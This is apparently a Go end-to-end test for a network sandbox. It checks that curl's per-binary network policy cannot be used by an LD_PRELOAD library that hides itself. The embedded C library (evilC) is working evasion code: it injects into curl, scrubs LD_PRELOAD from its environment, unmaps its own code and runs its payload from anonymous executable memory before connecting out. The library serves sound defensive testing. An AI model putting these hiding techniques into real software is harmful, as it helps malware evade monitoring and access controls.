package e2e

import (
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/corral-sandbox/corral/internal/testutil/netlab"
)

// A library preloaded into /usr/bin/curl (evilC, built here with the
// host's gcc and dropped in the workdir) hides itself before connecting:
// it copies its payload into anonymous executable memory, unmaps its own
// code and overwrites "LD_PRELOAD=" in its environment block (its own
// memory). The environment is read as the exec is reported, before the
// library's constructor runs, so the connection is still not taken for
// curl's; the same library without hiding is refused too.
const preloadScript = `#!/bin/bash
cd $W
echo "=== curl"; curl -sS -m5 http://curlonly.test/curl-itself -w ' %{http_code}\n' 2>&1
echo "=== control"; EVIL_HOST=curlonly.test EVIL_NOSCRUB=1 LD_PRELOAD=$W/evil.so /usr/bin/curl -s http://x/ 2>&1 | tail -1; echo
echo "=== hidden"; EVIL_HOST=curlonly.test LD_PRELOAD=$W/evil.so /usr/bin/curl -s http://x/ 2>&1 | tail -1; echo
echo "=== end"
`

func TestHiddenPreloadVoidsBinding(t *testing.T) {
	requireRoot(t)
	gcc, err := exec.LookPath("gcc")
	if err != nil {
		requireFeature(t, "needs gcc on the host to build the preload library (apt-get install gcc)")
	}
	dir := t.TempDir()
	src, so := filepath.Join(dir, "evil.c"), filepath.Join(dir, "evil.so")
	if err := os.WriteFile(src, []byte(evilC), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(gcc, "-shared", "-fPIC", "-O2", "-fno-stack-protector", "-o", so, src).CombinedOutput(); err != nil {
		t.Fatalf("gcc: %v\n%s", err, out)
	}
	lab := netlab.Start(t, netlab.Host{Name: "curlonly.test", Addr: netip.MustParseAddr("203.0.113.13")})
	forEachMode(t, false, func(t *testing.T, m *mode) {
		fx := newFixture(t, m)
		seen := len(lab.HTTPRequests())
		b, _ := os.ReadFile(so)
		writeOwned(t, m, filepath.Join(fx.W, "evil.so"), b, 0o755)
		writeOwned(t, m, filepath.Join(fx.W, "preload.sh"), []byte(preloadScript), 0o755)
		pol := proxyPolicy("network_policies:\n  curlonly:\n    endpoints:\n      - {host: curlonly.test, port: 80}\n    binaries: [{path: /usr/bin/curl}]\n")
		r := runCorral(t, fx, runOpts{args: []string{"/usr/bin/bash", filepath.Join(fx.W, "preload.sh")},
			policy: pol, timeout: 60 * time.Second,
			flags: []string{"--upstream-dns", lab.DNS.String(), "--env", "W=" + fx.W}})
		n := &netRun{t: t, r: r, sec: sections(r.stdout)}
		if n.sec["end"] == "" {
			t.Fatalf("the script did not complete\n%s", r)
		}
		t.Logf("sandbox output:\n%s\nnet events:\n%s", r.stdout, netEvents(r))
		n.has("curl", `hello from curlonly.test GET /curl-itself 200`)
		n.hasNot("control", `hello from`)
		for _, s := range lab.HTTPRequests()[seen:] {
			if strings.HasPrefix(s.Path, "/preload-") {
				t.Errorf("preloaded code reached curlonly.test as /usr/bin/curl: %s", s.Path)
			}
		}
	})
}

// evilC is the preload library.
const evilC = `#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <netdb.h>

extern char **environ;

struct ctx {
	int (*munmap)(void *, size_t);
	int (*socket)(int, int, int);
	int (*connect)(int, const struct sockaddr *, socklen_t);
	ssize_t (*write)(int, const void *, size_t);
	ssize_t (*read)(int, void *, size_t);
	void (*exit)(int);
	void *lo;
	size_t len;
	struct sockaddr_in sa;
	int reqlen;
	char req[512];
	char buf[4096];
};

/* Runs from an anonymous copy: no globals, no PLT, only c's pointers. */
__attribute__((section("evilpayload"), noinline, used)) void payload(struct ctx *c)
{
	if (c->len)
		c->munmap(c->lo, c->len); /* the library's own code is gone */
	int s = c->socket(AF_INET, SOCK_STREAM, 0);
	if (c->connect(s, (struct sockaddr *)&c->sa, sizeof c->sa) == 0) {
		c->write(s, c->req, c->reqlen);
		long n;
		while ((n = c->read(s, c->buf, sizeof c->buf)) > 0)
			c->write(1, c->buf, n);
	}
	c->exit(0);
}
extern char __start_evilpayload[], __stop_evilpayload[];

__attribute__((constructor)) static void init(void)
{
	const char *host = getenv("EVIL_HOST");
	if (!host)
		return;
	int scrub = getenv("EVIL_NOSCRUB") == NULL;
	static struct ctx c;
	c.munmap = munmap; c.socket = socket; c.connect = connect;
	c.write = write; c.read = read; c.exit = _exit;
	struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *ai;
	if (getaddrinfo(host, "80", &hints, &ai) != 0) { puts("resolve failed"); _exit(3); }
	memcpy(&c.sa, ai->ai_addr, sizeof c.sa);
	c.reqlen = snprintf(c.req, sizeof c.req, "GET /%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n",
			    scrub ? "preload-scrubbed" : "preload-control", host);
	if (scrub) {
		/* /proc/PID/environ is this memory */
		for (char **e = environ; *e; e++)
			if (!strncmp(*e, "LD_PRELOAD=", 11))
				(*e)[0] = 'X';
		/* find the executable mapping holding this code */
		FILE *m = fopen("/proc/self/maps", "r");
		char line[512];
		uintptr_t me = (uintptr_t)&init;
		while (m && fgets(line, sizeof line, m)) {
			uintptr_t lo, hi; char perm[5];
			if (sscanf(line, "%lx-%lx %4s", &lo, &hi, perm) == 3 && lo <= me && me < hi) {
				c.lo = (void *)lo; c.len = hi - lo;
			}
		}
		if (m) fclose(m);
	}
	size_t n = __stop_evilpayload - __start_evilpayload;
	void *code = mmap(NULL, 4096 + n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(code, __start_evilpayload, n);
	mprotect(code, 4096 + n, PROT_READ | PROT_EXEC);
	((void (*)(struct ctx *))((char *)code + ((char *)&payload - __start_evilpayload)))(&c);
}
`
